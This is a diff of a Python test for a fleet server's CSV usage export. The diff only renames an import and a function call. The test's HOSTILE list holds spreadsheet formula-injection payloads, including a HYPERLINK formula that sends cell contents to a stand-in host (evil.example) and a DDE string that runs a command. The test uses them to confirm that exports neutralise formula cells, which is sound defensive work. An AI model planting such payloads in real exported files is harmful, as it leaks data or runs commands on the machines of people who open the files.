@@ -16,7 +16,7 @@ from fleet_server.devices.registry import NewDevice
 from fleet_server.exports.csv_cells import FORMULA_STARTS, safe_cell
 from fleet_server.store.db import open_database
 from fleet_server.store.models import Device, db
-from fleet_server.store.usage import summary as queries
+from fleet_server.store.usage import sums
 from fleet_server.store.usage.ledger import insert_usage
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
@@ -41,7 +41,7 @@ def hostile_usage(tmp_path):
 
 @pytest.mark.parametrize("group", ["agent", "model", "session"])
 def test_usage_csv_has_no_formula_cells(hostile_usage, group):
-    rows = queries.usage_summary([group])
+    rows = sums.usage([group])
     text = to_csv(rows, [group])
     assert formula_cells(text) == []
     assert sorted(r[group] for r in from_csv(text)) == sorted(HOSTILE), "the names survive, as text"
